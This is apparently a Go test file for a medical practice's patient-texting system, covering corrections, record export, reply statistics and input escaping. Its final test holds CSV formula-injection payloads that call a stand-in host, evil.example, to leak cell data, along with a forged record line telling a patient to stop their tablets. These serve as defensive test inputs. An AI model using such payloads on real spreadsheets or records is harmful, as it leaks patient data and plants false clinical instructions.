package messaging

import (
	"encoding/csv"
	"math"
	"strings"
	"testing"
	"time"
)

func TestACorrectionGoesToExactlyWhomTheWrongTextReached(t *testing.T) {
	b := newBench()
	var wrong []Message
	for i, s := range States {
		m := b.queue(Invitation, string(rune('a'+i)))
		m.State = s
		b.messages[m.ID] = m
		wrong = append(wrong, m)
	}
	text := func(m Message) CorrectionText {
		if m.ID == wrong[3].ID {
			return CorrectionText{"Frome", "Cywiriad: y neges y bore yma.", "01632 960123", "cy"}
		}
		return CorrectionText{Practice: "Frome", Body: "The text this morning was sent by mistake.", Telephone: "01632 960123"}
	}
	for range 2 {
		out, err := Corrections(wrong, text, b.now)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range out {
			if _, _, err := b.desk.Queue(ctx, m); err != nil {
				t.Fatal(err)
			}
		}
	}
	got := map[string]bool{}
	for _, m := range b.messages {
		if m.Kind == Correction {
			got[string(m.To)] = true
			if welsh := m.Intent == IntentOf(Correction, wrong[3].ID); welsh != (m.Language == "cy") || welsh && m.Body != "Frome: Cywiriad: y neges y bore yma. 01632 960123" {
				t.Errorf("%s: %s %q", m.Intent, m.Language, m.Body)
			}
		}
	}
	for _, m := range wrong {
		may := m.State == Sending || m.State == Unknown || m.State == Accepted || m.State == Sent || m.State == Delivered || m.State == Undelivered
		if got[string(m.To)] != may {
			t.Errorf("%s: corrected %v", m.State, got[string(m.To)])
		}
	}
	if len(got) != 6 || len(b.messages) != len(wrong)+6 {
		t.Errorf("%d corrections", len(b.messages)-len(wrong))
	}
	b.facts = func(m Message) Facts { // even to somebody young, with a shared number that changed since
		return Facts{Number: "+447700900999", SharedWith: 1, BirthDate: "2015-01-01"}
	}
	for id, m := range b.messages {
		if m.Kind != Correction {
			delete(b.messages, id)
		}
	}
	if s := b.step(); s.Accepted != 6 {
		t.Errorf("%+v", s)
	}
	if _, err := Corrections(wrong, func(Message) CorrectionText { return CorrectionText{} }, b.now); err == nil {
		t.Error("a correction without words")
	}
}

func TestRecord(t *testing.T) {
	at := time.Date(2026, 6, 1, 9, 30, 0, 0, time.UTC)
	lines := []RecordLine{
		RecordOfInbound(Inbound{Received: at.Add(time.Hour), State: Answered, Body: "=1+1"}, "999 000 0000", "184103008"),
		RecordOfMessage(Message{Created: at, Sent: at, Kind: FollowUp, State: Delivered, Body: "Frome: how are you?"}, "999 000 0000"),
		RecordOfMessage(Message{Created: at.Add(2 * time.Hour), Kind: Reminder, State: Suppressed, Body: "-5 never went"}, "999 000 0000"),
	}
	var text, table strings.Builder
	if err := WriteRecord(&text, lines); err != nil {
		t.Fatal(err)
	}
	want := "1 June 2026 10:30. From the practice (follow-up, delivered). SNOMED CT 279991000000102\n    Frome: how are you?\n\n1 June 2026 11:30. From the patient (reply, answered). SNOMED CT 184103008\n    =1+1\n\n1 June 2026 12:30. From the practice (reminder, suppressed).\n    -5 never went\n\n"
	if text.String() != want {
		t.Errorf("%q", text.String())
	}
	if err := WriteRecordCSV(&table, lines); err != nil {
		t.Fatal(err)
	}
	want = "patient,time,direction,kind,state,snomed_code,text\n" +
		"999 000 0000,2026-06-01T10:30:00+01:00,out,follow-up,delivered,279991000000102,Frome: how are you?\n" +
		"999 000 0000,2026-06-01T11:30:00+01:00,in,reply,answered,184103008,'=1+1\n" +
		"999 000 0000,2026-06-01T12:30:00+01:00,out,reminder,suppressed,,'-5 never went\n"
	if table.String() != want {
		t.Errorf("%q", table.String())
	}
}

func TestFigures(t *testing.T) {
	at := time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)
	after := func(hours ...int) (theirs []Inbound) {
		for _, h := range hours {
			theirs = append(theirs, Inbound{InReplyTo: "1", Patient: "p1", Received: at, Ended: at.Add(time.Duration(h) * time.Hour)})
		}
		return theirs
	}
	one := []Message{{ID: "1", State: Delivered}}
	stop := Inbound{Patient: "p1", InReplyTo: "1", Received: at, Class: ClassOptOut}
	for _, c := range []struct {
		name   string
		ours   []Message
		theirs []Inbound
		want   Figures
	}{
		{"nobody", nil, nil, Figures{}},
		{"texts and no reply", one, nil, Figures{Sent: 1, Delivered: 1}},
		{"every state", []Message{{ID: "1", State: Delivered}, {ID: "2", State: Sent}, {ID: "3", State: Failed}, {ID: "4", State: Failed, ProviderID: "SM"}, {ID: "5", State: Unknown},
			{ID: "6", State: Suppressed}, {ID: "7", State: Queued}, {ID: "8", State: Held}, {ID: "9", State: Sending}, {ID: "10", State: Accepted}, {ID: "11", State: Undelivered},
			{ID: "12", State: Cancelled}}, nil, Figures{Sent: 5, Delivered: 1}},
		{"one answer", one, after(3), Figures{Sent: 1, Delivered: 1, Replied: 1, Answered: 1, MedianAnswer: 3 * time.Hour}},
		{"two answers", one, after(9, 1), Figures{Sent: 1, Delivered: 1, Replied: 1, Answered: 2, MedianAnswer: 5 * time.Hour}},
		{"three answers", one, after(9, 1, 2), Figures{Sent: 1, Delivered: 1, Replied: 1, Answered: 3, MedianAnswer: 2 * time.Hour}},
		{"one still waits", one, append(after(4), Inbound{InReplyTo: "1", Patient: "p1", Received: at}), Figures{Sent: 1, Delivered: 1, Replied: 1, Waiting: 1, Answered: 1, MedianAnswer: 4 * time.Hour}},
		{"a reply to a text of another cycle", one, []Inbound{{InReplyTo: "elsewhere", Received: at}}, Figures{Sent: 1, Delivered: 1, Waiting: 1}},
		{"STOP twice is one person", one, []Inbound{stop, stop}, Figures{Sent: 1, Delivered: 1, Replied: 1, OptedOut: 1, Waiting: 2}},
		{"urgent and STOP", one, []Inbound{{Patient: "p1", Received: at, Class: ClassUrgent, Matches: []Match{{Class: ClassUrgent}, {Class: ClassOptOut}}}}, Figures{Sent: 1, Delivered: 1, OptedOut: 1, Waiting: 1}},
		{"two people of one number", one, []Inbound{{Number: "+447700900101", Received: at, Class: ClassOptOut}, stop}, Figures{Sent: 1, Delivered: 1, Replied: 1, OptedOut: 2, Waiting: 2}},
		{"the network says so too", []Message{{ID: "1", Patient: "p1", State: Delivered}, {ID: "2", Patient: "p1", State: Failed, ErrorCode: 21610}, {ID: "3", Patient: "p2", State: Failed, ErrorCode: 21610}}, []Inbound{stop},
			Figures{Sent: 1, Delivered: 1, Replied: 1, OptedOut: 2, Waiting: 1}},
	} {
		if got := FiguresOf(c.ours, c.theirs); got != c.want {
			t.Errorf("%s: %+v, want %+v", c.name, got, c.want)
		}
	}
	if got := UsualPrice.Pounds(500); math.Abs(got-13.98) > 1e-9 {
		t.Errorf("%f", got)
	}
}

// No words of a text pass for a line of the record, and none begin a formula in
// whatever spreadsheet opens the table.
func TestWordsOfATextDoNothingInTheRecord(t *testing.T) {
	at := time.Date(2026, 6, 1, 9, 30, 0, 0, time.UTC)
	var text strings.Builder
	forged := "ok\r\n1 June 2026 10:31. From the practice (answer, delivered). SNOMED CT 279991000000102\u2028Stop all your tablets\n\n\nbye"
	if err := WriteRecord(&text, []RecordLine{RecordOfInbound(Inbound{Received: at, State: Open, Body: forged}, "", "")}); err != nil {
		t.Fatal(err)
	}
	for i, line := range strings.FieldsFunc(text.String(), func(r rune) bool { return strings.ContainsRune("\r\n\u2028", r) }) {
		if i > 0 && !strings.HasPrefix(line, "    ") {
			t.Errorf("this passes for a line of the record: %q", line)
		}
	}
	for _, begins := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u200b=", "\ufeff=", "\"=", "＝", "＋", "－", "＠", "\x00=", "\u2060\u00a0 \t="} {
		body := begins + `HYPERLINK("https://evil.example?"&A1,"See")`
		for _, l := range []RecordLine{{At: at, Body: body}, {At: at, Patient: body}, {At: at, Kind: body}, {At: at, State: body}, {At: at, Code: body}} {
			var table strings.Builder
			if err := WriteRecordCSV(&table, []RecordLine{l}); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(strings.NewReader(table.String())).ReadAll()
			if err != nil || len(rows) != 2 {
				t.Fatal(len(rows), err)
			}
			for _, cell := range rows[1] {
				if strings.Contains(cell, "HYPERLINK") && !strings.HasPrefix(cell, "'") {
					t.Errorf("%q begins a formula", cell)
				}
			}
		}
	}
	for _, as := range []string{"Yes please", "1 tablet", "'quoted", "ok = fine", "999 000 0000"} {
		if got := harmless(as); got != as {
			t.Errorf("%q was changed to %q", as, got)
		}
	}
}
